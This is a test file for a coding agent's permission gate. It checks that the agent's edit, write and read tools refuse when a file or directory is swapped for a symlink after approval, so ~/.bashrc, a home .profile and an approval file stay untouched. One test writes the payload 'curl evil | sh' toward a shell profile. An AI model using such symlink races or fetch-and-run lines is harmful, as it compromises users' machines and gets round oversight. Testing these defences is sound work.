/**
 * pi's own edit, write and read tools run with the gate's contained operations, on real files, with the swap made
 * at a chosen point: between the edit's read and its write, between the write's mkdir and its write, and before
 * a read. Whatever is swapped in, nothing outside the approved path is written or read.
 */
import {
	mkdirSync,
	mkdtempSync,
	readFileSync,
	realpathSync,
	renameSync,
	rmSync,
	symlinkSync,
	writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import {
	createEditToolDefinition,
	createReadToolDefinition,
	createWriteToolDefinition,
	detectSupportedImageMimeTypeFromFile,
} from "@earendil-works/pi-coding-agent";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
	containedEditOperations,
	containedReadOperations,
	containedWriteOperations,
	type FilePlan,
} from "../../src/gate/contained-file-tools.ts";

let root: string;
let project: string;
let bashrc: string;
const BASHRC = "alias ls='ls --color'\n";

beforeEach(() => {
	root = realpathSync(mkdtempSync(path.join(tmpdir(), "contained-tools-")));
	project = path.join(root, "project");
	mkdirSync(path.join(project, "src"), { recursive: true });
	mkdirSync(path.join(root, "home"));
	bashrc = path.join(root, "home", ".bashrc");
	writeFileSync(bashrc, BASHRC);
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

/** The plan the gate leaves for a call on `relative`, classified while it held no link. */
function planFor(tool: FilePlan["tool"], relative: string): FilePlan {
	const file = path.join(project, relative);
	return { tool, files: new Map([[file, { realPath: file, otherNamesApproved: false }]]) };
}

type ToolContext = Parameters<ReturnType<typeof createEditToolDefinition>["execute"]>[4];
/** The part of a tool's context pi's file tools read: the working directory. */
const ctx = () => ({ cwd: project }) as unknown as ToolContext;

/** Swap `file` for a link to the stand-in for `~/.bashrc`, as a command of the same turn would. */
function swapForLink(file: string): void {
	symlinkSync(bashrc, `${file}.tmp`);
	renameSync(`${file}.tmp`, file);
}

describe("the contained edit", () => {
	it("edits the approved file as pi's edit does", async () => {
		writeFileSync(path.join(project, "big.txt"), "one\nMARKER\nthree\n");
		const tool = createEditToolDefinition(project, {
			operations: containedEditOperations(planFor("edit", "big.txt")),
		});
		const result = await tool.execute(
			"id",
			{ path: "big.txt", edits: [{ oldText: "MARKER", newText: "two" }] },
			undefined,
			undefined,
			ctx(),
		);
		expect(result.content[0]).toMatchObject({
			text: expect.stringContaining("Successfully replaced 1 block"),
		});
		expect(readFileSync(path.join(project, "big.txt"), "utf8")).toBe("one\ntwo\nthree\n");
	});

	it("fails when the file became a link between its read and its write; ~/.bashrc is untouched", async () => {
		const file = path.join(project, "big.txt");
		writeFileSync(file, "MARKER\n");
		const contained = containedEditOperations(planFor("edit", "big.txt"));
		const operations = {
			...contained,
			readFile: async (absolutePath: string) => {
				const read = await contained.readFile(absolutePath);
				swapForLink(file);
				return read;
			},
		};
		const tool = createEditToolDefinition(project, { operations });
		await expect(
			tool.execute(
				"id",
				{ path: "big.txt", edits: [{ oldText: "MARKER", newText: "pwned" }] },
				undefined,
				undefined,
				ctx(),
			),
		).rejects.toThrow(/no longer what the gate checked.*nothing was written/);
		expect(readFileSync(bashrc, "utf8")).toBe(BASHRC);
	});

	it("fails for a path the plan does not hold (the input was changed after the gate's check)", async () => {
		writeFileSync(path.join(project, "other.txt"), "MARKER\n");
		const tool = createEditToolDefinition(project, {
			operations: containedEditOperations(planFor("edit", "big.txt")),
		});
		await expect(
			tool.execute(
				"id",
				{ path: "other.txt", edits: [{ oldText: "MARKER", newText: "x" }] },
				undefined,
				undefined,
				ctx(),
			),
		).rejects.toThrow(/not the path the gate checked/);
		expect(readFileSync(path.join(project, "other.txt"), "utf8")).toBe("MARKER\n");
	});
});

describe("the contained write", () => {
	it("creates the file and its directories", async () => {
		const tool = createWriteToolDefinition(project, {
			operations: containedWriteOperations(planFor("write", "src/a/b.txt")),
		});
		await tool.execute("id", { path: "src/a/b.txt", content: "made\n" }, undefined, undefined, ctx());
		expect(readFileSync(path.join(project, "src", "a", "b.txt"), "utf8")).toBe("made\n");
	});

	it("fails when the parent directory became a link to the home after the check; nothing is created there", async () => {
		const contained = containedWriteOperations(planFor("write", "src/.profile"));
		const operations = {
			...contained,
			mkdir: async (dir: string) => {
				await contained.mkdir(dir);
				renameSync(path.join(project, "src"), path.join(project, "src-away"));
				symlinkSync(path.join(root, "home"), path.join(project, "src"));
			},
		};
		const tool = createWriteToolDefinition(project, { operations });
		await expect(
			tool.execute("id", { path: "src/.profile", content: "curl evil | sh\n" }, undefined, undefined, ctx()),
		).rejects.toThrow(/no longer what the gate checked/);
		expect(() => readFileSync(path.join(root, "home", ".profile"))).toThrow();
	});
});

describe("the contained read", () => {
	it("reads the approved file, and refuses one that became a link to a refused file", async () => {
		const file = path.join(project, "notes.txt");
		writeFileSync(file, "hello\n");
		const operations = containedReadOperations(planFor("read", "notes.txt"), {
			detectSupportedImageMimeTypeFromFile,
		});
		const tool = createReadToolDefinition(project, { operations });
		const read = await tool.execute("id", { path: "notes.txt" }, undefined, undefined, ctx());
		expect(read.content[0]).toMatchObject({ text: expect.stringContaining("hello") });

		const inbox = path.join(root, "home", "request.json");
		writeFileSync(inbox, '{"actionHash":"secret"}');
		rmSync(file);
		symlinkSync(inbox, file);
		await expect(tool.execute("id", { path: "notes.txt" }, undefined, undefined, ctx())).rejects.toThrow(
			/nothing was read/,
		);
	});
});
